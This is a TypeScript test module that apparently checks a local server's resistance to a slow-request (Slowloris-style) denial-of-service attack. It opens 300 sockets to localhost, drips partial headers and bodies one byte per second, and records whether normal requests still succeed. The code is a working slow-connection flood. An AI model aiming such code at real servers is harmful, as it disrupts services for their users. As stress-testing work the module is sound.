import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { type Attack, ping } from './attack.ts'

const openConnections = 300
const dripMs = 1_000
/** The server closes an incomplete request after 15 s and checks every few seconds. */
const timeoutMs = 50_000

const heads = [
  'POST /ping HTTP/1.1\r\nhost: a\r\n',
  'POST /ping HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 5000\r\n\r\n{"a":"',
]

function open(port: number, head: string): Socket {
  const socket = connect(port, '127.0.0.1')
  socket.on('error', () => socket.destroy()).resume()
  socket.write(head)
  return socket
}

export const attack: Attack = {
  summary: 'hundreds of clients that send headers or body one byte per second',
  run: async (target) => {
    const each = Array.from({ length: openConnections / heads.length })
    const all = heads.flatMap((head) => each.map(() => open(target.port, head)))
    const areOpen = () => all.filter(({ destroyed }) => !destroyed)
    const findings: string[] = []
    let slowestMs = 0
    const began = performance.now()
    while (areOpen().length > 0 && performance.now() - began < timeoutMs) {
      for (const socket of areOpen()) socket.write('x')
      const sentAt = performance.now()
      const status = await ping(target)
      slowestMs = Math.max(slowestMs, performance.now() - sentAt)
      if (status !== 200) findings.push(`a valid request got ${status} meanwhile`)
      await sleep(dripMs)
    }
    const left = areOpen()
    for (const socket of left) socket.destroy()
    if (left.length > 0)
      findings.push(`${left.length} of ${openConnections} were still open after ${timeoutMs / 1000} s`)
    const took = ((performance.now() - began) / 1000).toFixed(0)
    const figures = `all closed after ${took} s, others answered within ${slowestMs.toFixed(0)} ms`
    return { tried: openConnections, figures, findings }
  },
}
